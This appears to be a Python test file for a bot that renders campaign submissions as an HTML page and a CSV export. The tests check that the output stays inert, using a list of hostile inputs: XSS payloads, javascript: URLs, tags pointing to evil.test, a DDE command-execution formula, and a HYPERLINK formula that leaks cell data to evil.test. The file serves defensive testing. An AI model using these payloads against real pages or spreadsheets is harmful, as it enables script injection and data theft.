"""A campaign as a table and as a page: what was made, and nothing of it does anything."""

import base64
import csv
import hashlib
import io
from collections.abc import Iterator
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.galleries import COLUMNS, MOST_BYTES, Gallery, Work, render, table
from tests.bot.reading import Element, Page, everything

NEW_YEAR = 1_767_225_600_000
TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "bdi", "dl", "dt",
    "dd", "main", "article", "p", "time", "a", "span", "footer",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "dir", "charset", "http-equiv", "content", "name", "class", "datetime", "href", "rel",
}  # fmt: skip
WORK = Work(
    reference="E7KQ2",
    state="done",
    title="A kite",
    url="https://example.org/work",
    why="It flies.",
    author_id=2**62 + 1,
    author="Ada",
    named=True,
    reviewer="Ben",
    review="A fine kite.",
    entered_at=NEW_YEAR,
    done_at=NEW_YEAR + 3_600_000,
)
HOSTILE = (
    "<script>alert(1)</script>",
    "</p></article></main><script src=https://evil.test></script>",
    "</title></style><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x=\'',
    "<!-- --><![CDATA[x]]><?php ?>",
    "{{ 7 * 7 }}{% raw %}{# no #}",
    "&lt;b&gt; &amp; &#60;",
    "javascript:alert(1)",
    "<iframe srcdoc='x'></iframe><base href=//evil.test><form action=//evil.test>",
)


def gallery(*works: Work, **changes: object) -> Gallery:
    made = Gallery(
        name="Summer show",
        text="Show us what you made.",
        guild="Harbour",
        closes_at=NEW_YEAR,
        timezone="Europe/Berlin",
        locale="en-US",
        works=works,
    )
    return replace(made, **changes)  # type: ignore[arg-type]


def read(made: Gallery) -> Element:
    """The page's elements; on the way, that it is inert whatever is in it."""
    data = render(made)
    assert len(data) <= MOST_BYTES
    root = Page(data).root
    for element in everything(root):
        assert element.tag in TAGS
        assert element.attributes.keys() <= ATTRIBUTES, element
        if element.tag == "a":
            assert element.attributes["href"].startswith(("https://", "http://"))
            assert element.attributes["rel"] == "nofollow noopener noreferrer"
        else:
            assert "href" not in element.attributes
    return root


def rows(*works: Work) -> list[dict[str, str]]:
    data = table(works, timezone="Europe/Berlin").data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(data, newline=""), strict=True))


def cells(text: str) -> list[str]:
    """What people can type, at every place of the table where it stands."""
    work = replace(WORK, title=text, url=text, why=text, author=text, reviewer=text, review=text)
    (row,) = rows(work)
    return [row[name] for name in ("title", "url", "why", "author", "reviewer", "review")]


def test_a_page_shows_what_was_made_by_whom_and_what_the_review_says() -> None:
    root = read(gallery(WORK))
    assert [one.text for one in root.all("h1")] == ["Summer show"]
    (article,) = root.all("article")
    assert [one.text for one in article.all("h2")] == ["A kite"]
    assert [one.text for one in article.all("p", **{"class": "by"})] == ["by Ada"]
    assert [one.text for one in article.all("p", **{"class": "text"})] == [
        "It flies.",
        "A fine kite.",
    ]
    assert [one.text for one in root.all("dd")] == ["Harbour", "2026-01-01 01:00 (Europe/Berlin)",
                                                    "1"]  # fmt: skip


def test_whoever_did_not_agree_is_named_nowhere_in_the_page() -> None:
    data = render(gallery(replace(WORK, named=False))).decode()
    assert "Ada" not in data
    assert str(WORK.author_id) not in data
    assert "Ben" not in data


def test_a_link_shows_the_host_that_it_leads_to() -> None:
    root = read(gallery(replace(WORK, url="https://bücher.test/a?b=1&c=<2>")))
    (link,) = root.all("a")
    assert link.attributes["href"] == "https://xn--bcher-kva.test/a?b=1&c=%3C2%3E"
    assert [one.text for one in root.all("span")] == ["xn--bcher-kva.test"]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.test",
        "https://user:pass@evil.test",
        "https://evil.test\\@good.test",
        " ",
        'https://a.test/" onclick="alert(1)',
    ],
)
def test_what_is_no_link_is_not_one_in_the_page_either(url: str) -> None:
    assert read(gallery(replace(WORK, url=url))).all("a") == []


@pytest.mark.parametrize("text", HOSTILE)
def test_whatever_is_written_is_shown_as_it_was_and_does_nothing(text: str) -> None:
    hostile = replace(WORK, title=text, url=text, why=text, author=text, review=text)
    root = read(gallery(hostile, hostile, name=text, text=text, guild=text))
    assert len(root.all("article")) == 2
    assert [one.text for one in root.all("h2")] == [text] * 2
    assert [one.text for one in root.all("p", **{"class": "text"})] == [text] * 5
    assert root.all("title")[0].text == text


def test_the_policy_allows_the_pages_own_style_and_nothing_else() -> None:
    root = read(gallery(WORK))
    (meta,) = root.all("meta", **{"http-equiv": "Content-Security-Policy"})
    policy = dict(part.strip().split(" ", 1) for part in meta.attributes["content"].split(";"))
    (style,) = root.all("style")
    digest = base64.b64encode(hashlib.sha256(style.text.encode()).digest()).decode()
    assert policy == {
        "default-src": "'none'",
        "style-src": f"'sha256-{digest}'",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    assert "url(" not in style.text
    assert "@import" not in style.text
    assert "prefers-color-scheme: dark" in style.text
    (viewport,) = root.all("meta", name="viewport")
    assert viewport.attributes["content"].startswith("width=device-width")
    head = root.all("head")[0].children
    assert head.index(meta) < head.index(style)


def test_it_is_in_the_readers_language() -> None:
    root = read(gallery(WORK, locale="de"))
    assert root.all("html")[0].attributes["lang"] == "de"
    assert root.all("a")[0].text == "Öffnen"
    assert "von Ada" in root.text


def test_words_from_right_to_left_turn_nothing_but_themselves() -> None:
    root = read(gallery(replace(WORK, title="مرحبا \u202eexe", why="שלום")))
    assert "مرحبا exe" in [one.text for one in root.all("bdi")]
    assert root.all("p", **{"class": "text"})[1].attributes["dir"] == "auto"


def test_a_campaign_without_a_work_or_a_text_is_a_page_too() -> None:
    root = read(gallery(text=""))
    assert "Nothing is done yet." in root.text
    assert root.all("p", **{"class": "text"}) == []


def test_a_page_that_would_be_too_long_is_cut_and_says_how_much_is_left_out() -> None:
    made = gallery(*([replace(WORK, why="&" * 20_000, review="&" * 20_000)] * 60))
    root = read(made)
    shown = len(root.all("article"))
    assert 20 < shown < 60
    assert f"{60 - shown} works more do not fit" in root.text


def test_a_table_has_every_entry_with_all_that_is_known_of_it() -> None:
    waiting = replace(WORK, reference="E9999", state="queued", named=False, done_at=None)
    first, second = rows(WORK, waiting)
    assert tuple(first) == COLUMNS
    assert first == {
        "reference": "E7KQ2",
        "state": "done",
        "title": "A kite",
        "url": "https://example.org/work",
        "why": "It flies.",
        "author": "Ada",
        "author_mention": f"<@{2**62 + 1}>",
        "named": "yes",
        "reviewer": "Ben",
        "review": "A fine kite.",
        "entered": "2026-01-01T01:00:00+01:00",
        "done": "2026-01-01T02:00:00+01:00",
    }
    assert (second["state"], second["named"], second["done"]) == ("queued", "no", "")


def test_a_table_without_an_entry_has_its_head() -> None:
    made = table([], timezone="Nowhere/Town")
    assert made.data.startswith(b'\xef\xbb\xbf"reference",')
    assert made.left_out == 0
    assert rows() == []


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.test?x="&A1)',
        "\uff1d1",
        "\uff20SUM(A1)",
        "\uff0b1",
        "\uff0d1",
    ],
)
@pytest.mark.parametrize("lead", ["", " ", "\u00a0", "\t", "\n", "\r\n", '"', "\x00", "a;", "a; ;",
                                  ";;", "a\n\n", "a\t", 'a;"'])  # fmt: skip
def test_no_cell_is_a_formula_however_it_is_cut(text: str, lead: str) -> None:
    for cell in cells(lead + text):
        assert f"'{text}" in cell
        assert text not in cell.replace(f"'{text}", "")


@pytest.mark.parametrize(
    "text", ["2 + 2 = 4", "well-known", "a@b.test", "'quoted'", "a, -b", "Ünïcode 😀", ""]
)
def test_what_is_no_formula_stands_in_the_table_as_it_was(text: str) -> None:
    assert cells(text) == [text] * 6


def test_quotes_commas_and_lines_stay_in_their_cell() -> None:
    text = 'said "yes, no"\nand, then'
    assert cells(text) == [text] * 6


def pieces(data: str, delimiter: str) -> Iterator[str]:
    """The cells as a spreadsheet reads them that expects another delimiter, and forgives all."""
    for row in csv.reader(io.StringIO(data, newline=""), delimiter=delimiter, strict=False):
        yield from row


@given(st.text(alphabet=st.sampled_from("=+-@;,\t\n\r\" 'a1\uff1d"), max_size=12))
def test_no_cell_is_a_formula_whatever_is_typed_and_whatever_separates(text: str) -> None:
    data = table([replace(WORK, title=text, review=text)], timezone="UTC").data.decode("utf-8-sig")
    for delimiter in ",;\t":
        for cell in pieces(data, delimiter):
            assert cell.strip()[:1] not in ("=", "+", "-", "@", "\uff1d"), (delimiter, cell)


def test_a_table_that_would_be_too_long_ends_early_and_says_by_how_much() -> None:
    large = replace(WORK, why="x" * 20_000, review="y" * 20_000)
    made = table([large] * 250, timezone="UTC")
    assert len(made.data) <= MOST_BYTES
    shown = made.data.decode("utf-8-sig").count("E7KQ2")
    assert 100 < shown < 250
    assert made.left_out == 250 - shown
